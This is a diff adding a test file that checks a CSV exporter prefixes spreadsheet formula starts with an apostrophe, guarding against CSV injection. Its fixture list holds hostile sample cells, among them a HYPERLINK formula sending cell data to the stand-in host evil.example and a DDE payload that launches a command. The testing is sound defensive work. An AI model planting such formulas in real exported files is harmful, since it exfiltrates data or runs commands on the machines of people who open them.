@@ -1,0 +1,73 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+import { TestClock } from '@lv/clock'
+import { silentLogger } from '@lv/logger'
+import { type TestDatabase, createTestDatabase } from '@lv/testing'
+import { createBuilder } from '../../services/exporter/src/builder.ts'
+import { neutraliseFormula } from '../../services/exporter/src/encode/csv.ts'
+import { readCsvObjects, readNdjson } from '../../services/exporter/src/test-support/csv-reader.ts'
+import { seeder } from '../../services/exporter/src/test-support/seed.ts'
+import { storedFileText } from '../../services/exporter/src/test-support/stored-file.ts'
+
+const READ_AT = new Date('2026-11-01T06:00:00.000Z')
+const clock = new TestClock('2026-11-01T12:00:00.000Z')
+let db: TestDatabase
+
+/** Names a register page could print, each a formula to a spreadsheet, keyed by slug. */
+const HOSTILE_NAMES: Record<string, string> = {
+	'equals-co': '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+	'plus-co': '+1+cmd|\' /C calc\'!A0',
+	'minus-co': '-2+3',
+	'at-co': '@SUM(1,2)',
+	'tab-co': '\t=1+1',
+	'cr-co': '\r=1+1'
+}
+
+beforeAll(async () => {
+	db = await createTestDatabase()
+	const seed = seeder(db.sql, READ_AT)
+	for (const [slug, name] of Object.entries(HOSTILE_NAMES)) {
+		const operator = await seed.operator(slug, name)
+		await seed.licence(operator, { number: `=${slug}`, types: ['-Remote', 'Remote'] })
+	}
+	await seed.licence(await seed.operator('plain-co', 'Plain Co - Gaming'), { number: '000-1', types: ['Remote'] })
+	await seed.finishRun('UKGC', READ_AT)
+}, 60_000)
+
+afterAll(async () => {
+	await db.drop()
+})
+
+describe('spreadsheet formulas in CSV exports', () => {
+	const builder = () => createBuilder({ sql: db.sql, clock, logger: silentLogger, chunkBytes: 1 << 16, batchRows: 100, maxConcurrentBuilds: 1 })
+	const build = async (dataset: 'operators' | 'licences', format: 'csv' | 'json') =>
+		storedFileText(db.sql, (await builder().fileFor({ dataset, format, jurisdiction: null, status: null })).file_id)
+
+	test('a text cell starting with =, +, -, @, tab or CR is written with a leading apostrophe; other cells unchanged', async () => {
+		const rows = readCsvObjects(await build('operators', 'csv'))
+		const bySlug = new Map(rows.map((row) => [row.slug, row]))
+		for (const [slug, name] of Object.entries(HOSTILE_NAMES)) {
+			expect(bySlug.get(slug)?.display_name).toBe(`'${name}`)
+			expect(bySlug.get(slug)?.registered_name).toBe(`'${name} Limited`)
+			// Integer columns stay numbers.
+			expect(bySlug.get(slug)?.license_count).toBe('1')
+		}
+		expect(bySlug.get('plain-co')?.display_name).toBe('Plain Co - Gaming')
+	})
+
+	test('licence numbers and list cells are neutralised too', async () => {
+		const rows = readCsvObjects(await build('licences', 'csv'))
+		const equals = rows.find((row) => row.license_number === "'=equals-co")
+		expect(equals?.license_types).toBe("'-Remote|Remote")
+		expect(rows.find((row) => row.license_number === '000-1')?.license_types).toBe('Remote')
+	})
+
+	test('NDJSON keeps the register text verbatim (it is data, not a spreadsheet)', async () => {
+		const rows = readNdjson(await build('operators', 'json'))
+		expect(rows.find((row) => row.slug === 'equals-co')?.display_name).toBe(HOSTILE_NAMES['equals-co'])
+	})
+
+	test('neutraliseFormula prefixes exactly the OWASP formula starts', () => {
+		for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`)
+		for (const safe of ['x=1', ' =1', "'=1", '1-2', '', '\n=1']) expect(neutraliseFormula(safe)).toBe(safe)
+	})
+})
